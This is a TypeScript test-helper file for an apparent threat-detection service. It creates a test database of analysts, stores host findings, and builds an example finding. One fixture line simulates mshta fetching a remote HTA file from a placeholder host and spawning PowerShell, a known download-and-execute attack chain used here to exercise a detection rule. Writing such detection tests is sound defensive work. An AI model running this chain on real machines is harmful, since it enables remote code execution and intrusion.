import type { Actor } from '../access/can';
import { findingOf, MSHTA, POWERSHELL, storyOf } from '../analytics/testStory';
import { setEnvironment } from '../base/testEnvironment';
import type { Finding, FindingStage } from '../findings/finding';
import { closeStorage, pool, transaction } from '../storage/client';
import { announceReopenings } from '../storage/findingRevisions';
import { replaceFindings } from '../storage/replaceFindings';
import { createTestDatabase } from '../storage/testDatabase';

export const ANNA: Actor = { name: 'anna', role: 'analyst' };
export const BERT: Actor = { name: 'bert', role: 'analyst' };

/** For tests: DATABASE_URL points to a database of its own, with anna and bert (analysts), mara (manager) and gone (left), until it is called. */
export async function useTestDatabase(): Promise<() => Promise<void>> {
  const database = await createTestDatabase();
  const restore = setEnvironment({ DATABASE_URL: database.url });
  await pool().query(
    `INSERT INTO people (id, handle, name, email, role, deactivated_at) SELECT h, h, h, h || '@example.com', r, CASE WHEN h = 'gone' THEN now() END
     FROM (VALUES ('anna', 'analyst'), ('bert', 'analyst'), ('mara', 'manager'), ('gone', 'analyst')) AS p(h, r)`,
  );
  return async () => {
    await closeStorage();
    restore();
    await database.drop();
  };
}

/** For tests: what a correlation of a host does with its findings; the host is made if it is new. */
export async function storeFindings(findings: readonly Finding[], hostId = 1): Promise<void> {
  await pool().query(
    `INSERT INTO hosts (id, name, canonical_id) VALUES ($1, $2, $1) ON CONFLICT DO NOTHING`,
    [hostId, `ws${String(hostId).padStart(2, '0')}`],
  );
  await transaction(async (connection) => {
    const reopenings = await replaceFindings(connection, hostId, [hostId], findings);
    await connection.query('UPDATE hosts SET correlated_changes = correlated_changes + 1 WHERE id = $1', [
      hostId,
    ]);
    await announceReopenings(connection, reopenings);
  });
}

/** For tests: a finding with stages that matched and stages that did not, under an id of its own. */
export function exampleFinding(id = 'f1', change: Partial<Finding> = {}): Finding {
  example ??= makeExample();
  return { ...example, id, ...change };
}

let example: Finding | undefined;

function makeExample(): Finding {
  const { s } = storyOf();
  s.starts(POWERSHELL, { parent: s.starts(MSHTA, { commandLine: `${MSHTA} https://files.example/a.hta` }) });
  return findingOf(s.events(), 'AN1397');
}

/** For tests: the same finding with a stage in another state. */
export function withStage(finding: Finding, stage: string, change: Partial<FindingStage>): Finding {
  return {
    ...finding,
    stages: finding.stages.map((one) => (one.id === stage ? { ...one, ...change } : one)),
  };
}
